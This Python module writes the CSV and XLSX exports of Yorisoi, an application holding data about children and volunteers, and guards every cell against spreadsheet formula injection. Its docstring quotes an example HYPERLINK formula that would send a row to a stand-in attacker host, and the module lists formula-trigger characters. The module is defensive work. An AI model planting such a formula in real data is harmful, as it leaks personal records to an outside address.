"""The one writer of spreadsheet downloads (CSV and XLSX) in Yorisoi: every export goes through it.

Every cell passes through :func:`spreadsheet_safe`, so that a value typed by a person (a child's or a
volunteer's name, a school, a note) can never become a live formula when a municipal office opens the
file in Excel or LibreOffice: ``=HYPERLINK("https://evil.example/?"&B2, "…")`` in a name would
otherwise send the row to an outside address. ``tests/test_exports.py`` builds every export with
hostile names, and fails when any other module imports ``csv`` or ``openpyxl``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from lib import localtime

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# A spreadsheet starts a formula at these characters (OWASP's list), and Japanese Excel also
# at their full-width forms, which its CSV import turns into the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Leading blanks Excel or LibreOffice may skip before reading a formula.
_LEADING_BLANKS = " \u3000"
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula (or a DDE call)."""
    stripped = text.lstrip(_LEADING_BLANKS)
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    # "-3" or "+1.5" is a number, not a formula; "-" alone is a placeholder.
    return not (_PLAIN_NUMBER.fullmatch(stripped) or stripped in {"-", "+"})


def spreadsheet_safe(value):
    """A CSV cell value that no spreadsheet evaluates: risky text gets a leading apostrophe.

    Numbers stay numbers (they cannot carry a formula); ``None`` becomes an empty cell; any other
    value becomes its text.
    """
    if value is None:
        return ""
    if type(value) is str:  # the common case, answered as below without the formatter's checks
        return "'" + value if starts_a_formula(value) else value
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = localtime.stamp(value)  # a date or time in Japan time, through the one formatter
    return "'" + text if starts_a_formula(text) else text


def _csv_text(value) -> str:
    value = spreadsheet_safe(value)
    if isinstance(value, float):
        return f"{value:.2f}".rstrip("0").rstrip(".")
    return str(value)


def table_rows(table) -> list[list[str]]:
    """The header row, then one row of plain text per record of a django-tables2 Table
    (``value_*`` methods, no HTML), every row the filter shows, in the table's order."""
    return [[localtime.stamp(cell) for cell in row] for row in table.as_values()]


def csv_bytes(rows: Iterable[list]) -> bytes:
    """UTF-8 with a byte-order mark, so that Excel in Japan opens it without mojibake."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerows([_csv_text(value) for value in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def csv_write(rows: Iterable[list], stream) -> int:
    """Write ``rows`` to the text ``stream`` one at a time (UTF-8 with a byte-order mark when the stream
    is opened so; the caller writes the mark), each cell made safe as in :func:`csv_bytes`: the full
    export writes tables of tens of thousands of rows without holding them. Answers the rows written."""
    writer = csv.writer(stream, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    count = 0
    for row in rows:
        writer.writerow([_csv_text(value) for value in row])
        count += 1
    return count


@dataclass
class Sheet:
    """One sheet of a workbook: its rows, the rows in bold (0-based; the first always is), the frozen cell."""

    title: str
    rows: list[list]
    bold_rows: Iterable[int] = ()
    freeze: str = "A2"
    max_width: int = 60
    # Cells formatted as text ("@"): what a person later types there stays text too (a phone number
    # keeps its leading zero), for a sheet meant to be filled in and read back (an import's template).
    text_cells: bool = False
    wrap: bool = False


def _write_sheet(sheet, spec: Sheet) -> None:
    """Text is always written as text, never as a formula (openpyxl would store a text starting with
    "=" as one). A text a spreadsheet could read as a formula is kept exactly as typed and marked
    with Excel's own "quote prefix" (what Excel stores when a person types ``'=...``), so it shows
    the name unchanged and stays text even when someone edits the cell."""
    rows = spec.rows
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            if value is None or value == "":
                continue
            cell = sheet.cell(row=row_number, column=column)
            if spec.text_cells:
                cell.number_format = "@"
            if spec.wrap:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
            if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
                cell.value = value
                continue
            text = localtime.stamp(value)  # a date or time in Japan time, through the one formatter
            cell.value = text
            cell.data_type = "s"
            if starts_a_formula(text):
                cell.quotePrefix = True
    for index in {0, *spec.bold_rows}:
        if index < len(rows):
            for cell in sheet[index + 1]:
                cell.font = Font(bold=True)
    if rows:
        sheet.freeze_panes = spec.freeze
    width = max((len(row) for row in rows), default=0)
    for column in range(width):
        longest = max((len(_csv_text(row[column])) for row in rows if column < len(row)), default=4)
        # East Asian characters are about twice as wide as the width unit.
        sheet.column_dimensions[get_column_letter(column + 1)].width = min(max(longest * 2 + 2, 6), spec.max_width)


def xlsx_bytes(rows: list[list], *, title: str, bold_rows: Iterable[int] = (), freeze: str = "A2",
               max_width: int = 60) -> bytes:
    """One sheet; the first row (and ``bold_rows``, 0-based) in bold."""
    return xlsx_sheets_bytes([Sheet(title=title, rows=rows, bold_rows=bold_rows, freeze=freeze, max_width=max_width)])


def xlsx_sheets_bytes(sheets: list[Sheet]) -> bytes:
    """A workbook of several sheets, in order; sheet names made unique as Excel requires."""
    workbook = Workbook()
    used: set[str] = set()
    for index, spec in enumerate(sheets):
        sheet = workbook.active if index == 0 else workbook.create_sheet()
        sheet.title = _unique_title(_sheet_title(spec.title), used)
        _write_sheet(sheet, spec)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _unique_title(title: str, used: set[str]) -> str:
    candidate, n = title, 2
    while candidate.lower() in used:
        suffix = f" ({n})"
        candidate, n = title[: 31 - len(suffix)] + suffix, n + 1
    used.add(candidate.lower())
    return candidate


def _sheet_title(title: str) -> str:
    # Excel refuses these characters in a sheet name, and names longer than 31 characters.
    return re.sub(r"[\\/*?:\[\]]", " ", title)[:31] or "Sheet"


def rows_response(rows: list[list], *, export_format: str, filename: str, title: str,
                  bold_rows: Iterable[int] = (), freeze: str = "A2", max_width: int = 60) -> HttpResponse:
    """A download of ``rows`` as ``csv`` or ``xlsx``; never cached (the data is about children)."""
    if export_format == "xlsx":
        content = xlsx_bytes(rows, title=title, bold_rows=bold_rows, freeze=freeze, max_width=max_width)
        response = HttpResponse(content, content_type=XLSX_TYPE)
    else:
        response = HttpResponse(csv_bytes(rows), content_type=CSV_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.{export_format}"'
    response["Cache-Control"] = "no-store"
    return response


def sheets_response(sheets: list[Sheet], *, filename: str) -> HttpResponse:
    """A download of a workbook with one sheet per ``Sheet``; never cached."""
    response = HttpResponse(xlsx_sheets_bytes(sheets), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    response["Cache-Control"] = "no-store"
    return response


def table_response(table, *, export_format: str, filename: str, title: str) -> HttpResponse:
    return rows_response(table_rows(table), export_format=export_format, filename=filename, title=title)
